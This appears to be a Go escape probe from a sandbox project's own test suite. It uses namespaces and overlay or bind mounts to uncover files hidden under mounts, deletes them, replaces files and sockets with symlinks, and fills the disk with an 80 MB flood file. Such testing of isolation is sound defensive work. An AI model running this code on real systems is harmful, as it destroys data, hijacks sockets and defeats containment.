package main

import (
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"

	"golang.org/x/sys/unix"

	"github.com/carboy-sandbox/carboy/test/escape/facts"
)

// flood is what attack writes beside the box's disk, in bytes: more than the
// box that it is made for has.
const flood = 80 << 20

// ourMark begins the names that attack makes.
const ourMark = ".carboy-attack"

// attack looks for directories that the kernel's mounts cover and the wall's
// file server shows all the same, as root of a namespace of its own, and puts
// links and a flood there. It knows no name of what it looks for.
func attack(canary, socket string, out io.Writer) error {
	var best facts.Attack
	for _, attr := range append(mightyKinds(), &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNS}, &syscall.SysProcAttr{}) {
		var got facts.Attack
		text, err := again(attr, "attacked", canary, socket)
		if err == nil {
			err = json.Unmarshal([]byte(text), &got)
		}
		if err != nil {
			got.Notes = append(got.Notes, fmt.Sprintf("with clone flags %#x: %v", attr.Cloneflags, err))
		}
		got.Notes = append(best.Notes, got.Notes...)
		best = got
		if best.How != "" {
			break
		}
	}
	slices.Sort(best.Notes)
	best.Notes = slices.Compact(best.Notes)
	return json.NewEncoder(out).Encode(best)
}

// attacked is attack in this process.
func attacked(canary, socket string, out io.Writer) error {
	var a facts.Attack
	for _, v := range views() {
		if err := v.mount(); err != nil {
			a.Notes = append(a.Notes, fmt.Sprintf("%s: %v", v.how, err))
			continue
		}
		for _, dir := range covered(v) {
			if plant(&a, dir, canary, socket); a.Written > 0 || len(a.Links) > 0 {
				a.How, a.Dir = v.how, dir
				return json.NewEncoder(out).Encode(a)
			}
		}
		_ = unix.Unmount(v.at, unix.MNT_DETACH)
	}
	return json.NewEncoder(out).Encode(a)
}

// view is a way to have a tree shown without what is mounted in it.
type view struct {
	of, at, how string
	mount       func() error
}

// views are those of every directory that has a mount point in it.
func views() (list []view) {
	var parents []string
	for _, m := range mounts() {
		if p := filepath.Dir(m.target); m.target != "/" && !within(p, "/proc") && !within(p, "/sys") && !slices.Contains(parents, p) {
			parents = append(parents, p)
		}
	}
	for _, p := range parents {
		at, low, work := "/tmp/"+ourMark+"-at", "/tmp/"+ourMark+"-low", filepath.Join(p, ourMark+"-work")
		overlay := func(lower string) view {
			data := fmt.Sprintf("upperdir=%s,workdir=%s,lowerdir=%s", p, work, lower)
			return view{p, at, "an overlay with " + data, func() error {
				for _, dir := range []string{at, low, work} {
					_ = os.Mkdir(dir, 0o700) // or the mount says it
				}
				return unix.Mount("overlay", at, "overlay", 0, data)
			}}
		}
		list = append(list, overlay("/etc"), overlay(low), view{p, at, "a bind of " + p, func() error {
			_ = os.Mkdir(at, 0o700)
			return unix.Mount(p, at, "", unix.MS_BIND, "")
		}})
	}
	return list
}

// covered lists directories with names in them that the same place in the box
// does not have.
func covered(v view) (dirs []string) {
	for _, m := range mounts() {
		rel, err := filepath.Rel(v.of, m.target)
		if err != nil || rel == "." || strings.HasPrefix(rel, "..") || within(m.target, v.at) {
			continue
		}
		dir := filepath.Join(v.at, rel)
		if len(hiddenNames(dir, m.target)) > 0 && !slices.Contains(dirs, dir) {
			dirs = append(dirs, dir)
		}
	}
	return dirs
}

// hiddenNames are those of dir that shown has not.
func hiddenNames(dir, shown string) (names []string) {
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		if _, err := os.Lstat(filepath.Join(shown, e.Name())); err != nil && !strings.HasPrefix(e.Name(), ourMark) {
			names = append(names, e.Name())
		}
	}
	return names
}

// plant puts links in the place of files and sockets, and a flood beside them.
func plant(a *facts.Attack, dir, canary, socket string) {
	entries, _ := os.ReadDir(dir)
	for _, e := range entries {
		to := canary
		switch e.Type() {
		case os.ModeSocket:
			to = socket
		case 0:
		default:
			continue
		}
		name := filepath.Join(dir, e.Name())
		err := os.Remove(name)
		if err == nil {
			err = os.Symlink(to, name)
		}
		if err != nil {
			a.Notes = append(a.Notes, err.Error())
			continue
		}
		a.Links = append(a.Links, name+" -> "+to)
	}
	f, err := os.OpenFile(filepath.Join(dir, ourMark+"-flood"), os.O_WRONLY|os.O_CREATE|os.O_TRUNC, 0o644)
	if err != nil {
		a.Notes = append(a.Notes, err.Error())
		return
	}
	defer f.Close()
	block := []byte(strings.Repeat("flood...", 1<<17))
	for a.Written < flood && err == nil {
		var n int
		n, err = f.Write(block)
		a.Written += int64(n)
	}
	if err != nil {
		a.Notes = append(a.Notes, err.Error())
	}
}
